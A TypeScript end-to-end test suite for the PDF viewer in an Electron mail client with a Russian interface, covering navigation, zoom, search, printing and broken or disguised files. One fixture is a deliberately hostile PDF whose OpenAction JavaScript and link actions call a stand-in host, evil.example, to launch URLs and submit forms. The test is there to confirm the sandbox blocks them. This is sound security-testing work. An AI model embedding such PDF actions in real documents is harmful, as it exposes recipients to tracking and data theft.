import type { Frame, Page } from 'playwright-core';
import { afterEach, beforeAll, expect, it } from 'vitest';
import { accessLines, seen, takeLetter, visible, writeToClients } from '../helpers/letter-road.ts';
import { pdfFile } from '../helpers/pdf-file.ts';
import { scene } from '../helpers/scene.ts';

const set = scene('belova');
const patience = { timeout: 60_000 } as const;
const pdf = 'application/pdf';

const tenPages = Array.from({ length: 10 }, (_, n) => `Dogovor page ${n + 1}`);

/** A file that tries to act: at opening, at every page, and where it is clicked. */
const acting = pdfFile({
  pages: ['Click me'],
  catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1); app.launchURL("https://evil.example/js"); this.submitForm("https://evil.example/form")) >> /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(2)) >>] >> >>',
  page: '/AA << /O << /S /URI /URI (https://evil.example/open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/link) >> >>]',
});

beforeAll(async () => {
  await writeToClients(set.centre, {
    from: 'Крылова <krylova@pochta-mo.ru>',
    subject: 'Договор и приложения',
    text: 'Во вложении.',
    attachments: [
      { filename: 'договор.pdf', content: pdfFile({ pages: tenPages }), contentType: pdf },
      { filename: 'том.pdf', content: pdfFile({ pages: Array.from({ length: 500 }, (_, n) => `List ${n + 1}`) }), contentType: pdf },
      { filename: 'закрытый.pdf', content: pdfFile({ pages: ['Secret'], password: 'parol' }), contentType: pdf },
      { filename: 'обрезанный.pdf', content: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4_000, 0x41)]), contentType: pdf },
      { filename: 'картинка.pdf', content: Buffer.from('MZ this is a program, not a document'), contentType: pdf },
      { filename: 'действует.pdf', content: acting, contentType: pdf },
    ],
  });
  await takeLetter(set.desk('belova').page, 'Договор и приложения');
});

/** A test that failed must not take the others with it. */
afterEach(async () => {
  if ((await dialog().count()) > 0) await close();
});

const page = (): Page => set.desk('belova').page;
const dialog = () => page().getByRole('dialog');

async function open(name: string): Promise<void> {
  await visible(page().getByRole('button', { name, exact: true })).first().click(patience);
  await dialog().waitFor(patience);
}

async function frameOf(): Promise<Frame> {
  await expect.poll(() => page().frames().some((one) => one.url().includes('.pdf/')), patience).toBe(true);
  const found = page().frames().find((one) => one.url().includes('.pdf/'));
  if (found === undefined) throw new Error('The frame of the PDF is gone');
  return found;
}

async function close(): Promise<void> {
  await dialog().getByRole('button', { name: /^Закрыть/ }).click(patience);
  await dialog().waitFor({ state: 'detached', ...patience });
}

/** As the system gives it: Playwright's own keys go past the window to the page. */
const pressKey = (keyCode: string, modifiers: ('control' | 'alt')[] = []): Promise<void> =>
  set.desk('belova').app.evaluate(
    ({ BrowserWindow }, key) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents;
      contents?.sendInputEvent({ type: 'keyDown', ...key });
      contents?.sendInputEvent({ type: 'keyUp', ...key });
    },
    { keyCode, modifiers },
  );

const pageNumber = (): Promise<string> => dialog().getByLabel('Страница', { exact: true }).inputValue(patience);
const percent = (): Promise<number> => dialog().getByLabel('Размер', { exact: true }).innerText(patience).then((text) => Number.parseInt(text, 10));

it('a PDF of a letter is read inside the window: pages, size, keys, search', async () => {
  await open('договор.pdf');
  expect(await seen(dialog().getByText('из 10', { exact: true }))).toBe(true);
  const frame = await frameOf();
  await frame.getByText('Dogovor page 1', { exact: true }).waitFor({ state: 'attached', ...patience });
  expect(await frame.locator('canvas').first().evaluate((canvas) => {
    const { width, height } = canvas as HTMLCanvasElement; // the locator names the element
    const { data } = (canvas as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height) ?? { data: [] };
    return data.some((value, n) => n % 4 !== 3 && value < 100);
  })).toBe(true);

  await pressKey('End');
  await expect.poll(pageNumber, patience).toBe('10');
  await pressKey('Home');
  await expect.poll(pageNumber, patience).toBe('1');
  const scrolled = (): Promise<number> => frame.evaluate(() => document.getElementById('container')?.scrollTop ?? 0);
  await pressKey('PageDown');
  await expect.poll(scrolled, patience).toBeGreaterThan(100);
  await pressKey('PageUp');
  await expect.poll(scrolled, patience).toBeLessThan(20);
  await dialog().getByLabel('Страница', { exact: true }).fill('7');
  await page().keyboard.press('Enter');
  await expect.poll(scrolled, patience).toBeGreaterThan(1_000);
  await expect.poll(pageNumber, patience).toBe('7');

  const before = await percent();
  await pressKey('=', ['control']);
  await expect.poll(percent, patience).toBeGreaterThan(before);
  await pressKey('0', ['control']);
  await expect.poll(percent, patience).toBe(100);
  await dialog().getByRole('button', { name: /^По ширине/ }).click(patience);
  await expect.poll(percent, patience).toBeGreaterThan(100);

  await pressKey('F', ['control']);
  await page().keyboard.type('page 9');
  expect(await seen(dialog().getByText('1 из 1', { exact: true }))).toBe(true);
  await expect.poll(pageNumber, patience).toBe('9');

  await frame.locator('#container').focus();
  await pressKey('Escape');
  await dialog().waitFor({ state: 'detached', ...patience });
  expect(await seen(visible(page().getByRole('group', { name: 'Вложения' })))).toBe(true); // the letter under it stays open
});

it('five hundred pages open as one scroll', async () => {
  await open('том.pdf');
  expect(await seen(dialog().getByText('из 500', { exact: true }))).toBe(true);
  await pressKey('End');
  await expect.poll(pageNumber, patience).toBe('500');
  const frame = await frameOf();
  await frame.getByText('List 500', { exact: true }).waitFor({ state: 'attached', ...patience });
  expect(await frame.locator('canvas').count()).toBeLessThan(60);
  await close();
});

it.each([
  ['закрытый.pdf', 'Файл закрыт паролем'],
  ['обрезанный.pdf', 'Файл PDF повреждён'],
  ['картинка.pdf', 'Это не PDF'],
])('%s is not shown, and the person is told what to do', async (name, said) => {
  await open(name);
  expect(await seen(dialog().getByRole('heading', { name: said }))).toBe(true);
  expect(await dialog().getByRole('button', { name: /^Сохранить/ }).isEnabled()).toBe(true);
  expect(await dialog().getByRole('button', { name: /^Открыть в другой программе/ }).isEnabled()).toBe(true);
  await close();
});

it('a PDF launches nothing: no script of its own, no link, no network, no bridge, no way to the screen', async () => {
  const { app } = set.desk('belova');
  await app.evaluate(({ dialog: dialogs, shell, session }) => {
    const asked = { opened: [] as string[], requests: [] as string[] };
    Object.assign(globalThis, { asked });
    dialogs.showMessageBox = ((_window: unknown, options: { message: string }) => Promise.resolve(void asked.opened.push(options.message)).then(() => ({ response: 0, checkboxChecked: false }))) as unknown as typeof dialogs.showMessageBox; // answers instead of a person
    shell.openExternal = (url) => Promise.resolve(void asked.opened.push(url));
    session.defaultSession.webRequest.onSendHeaders((details) => void asked.requests.push(details.url));
  });
  await open('действует.pdf');
  expect(await seen(dialog().getByText('из 1', { exact: true }))).toBe(true);
  const frame = await frameOf();
  await frame.getByText('Click me', { exact: true }).waitFor({ state: 'attached', ...patience });
  const box = await page().getByTitle('PDF: действует.pdf').boundingBox();
  await page().mouse.click((box?.x ?? 0) + (box?.width ?? 0) / 2, (box?.y ?? 0) + 200);

  const reached = await frame.evaluate(async () => {
    const refused = async (run: () => unknown): Promise<boolean> => {
      try {
        await run();
        return false;
      } catch {
        return true; // refused, as it must be
      }
    };
    const inline = document.createElement('script');
    inline.textContent = 'window.ranInline = true';
    document.body.append(inline);
    const framed = document.createElement('iframe');
    framed.src = 'app://okno/index.html';
    document.body.append(framed);
    const answers = {
      bridge: 'okno' in window || 'require' in window || 'process' in window,
      network: await refused(() => fetch('https://evil.example/')),
      screenFile: await refused(() => fetch('app://okno/index.html')),
      contentAgain: (await fetch('/content')).status,
      screen: await refused(() => window.parent.document.title),
      eval: await refused(() => Reflect.construct(Function, ['return 1'])),
      wasm: await refused(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      popup: window.open('https://evil.example/popup') === null,
      ranInline: 'ranInline' in window,
    };
    return answers;
  });
  expect(reached).toEqual({ bridge: false, network: true, screenFile: true, contentAgain: 404, screen: true, eval: true, wasm: true, popup: true, ranInline: false });
  // The frame still shows the document after all this, and nobody was asked anything.
  await pressKey('=', ['control']);
  await expect.poll(percent, patience).toBeGreaterThan(100);
  await frame.evaluate(() => {
    location.href = 'https://evil.example/away';
  });
  await expect.poll(() => frame.url(), patience).not.toContain('evil');
  const asked = await app.evaluate(() => (globalThis as unknown as { asked: { opened: string[]; requests: string[] } }).asked); // put there above
  expect(asked.opened).toEqual([]);
  expect(asked.requests.filter((url) => !url.startsWith('app://') && !url.startsWith('blob:') && !url.startsWith('data:'))).toEqual([]);
  await close();
});

it('«Печать» draws every page and leaves a line in the access log', async () => {
  const { app } = set.desk('belova');
  await app.evaluate(({ app: program }) => {
    const printed = { pages: 0 };
    Object.assign(globalThis, { printed });
    program.on('web-contents-created', (_event, contents) => {
      // Writes what would be printed instead of asking for a printer.
      const writePages = async (): Promise<void> => {
        printed.pages = (await contents.printToPDF({ preferCSSPageSize: true })).toString('latin1').match(/\/Type\s*\/Page\b/g)?.length ?? 0;
      };
      contents.print = (_options, done) => void writePages().finally(() => done?.(true, ''));
    });
  });
  await open('договор.pdf');
  await seen(dialog().getByText('из 10', { exact: true }));
  await dialog().getByRole('button', { name: /^Печать/ }).click(patience);
  await expect.poll(() => app.evaluate(() => (globalThis as unknown as { printed: { pages: number } }).printed.pages), patience).toBe(10); // put there above
  await expect.poll(() => app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length), patience).toBe(1);
  await close();
  await page().evaluate(() => window.okno?.call('connection.sync', {}));
  await expect.poll(async () => (await accessLines(set.centre, '')).map(({ details }) => details), patience).toContain('договор.pdf');
});
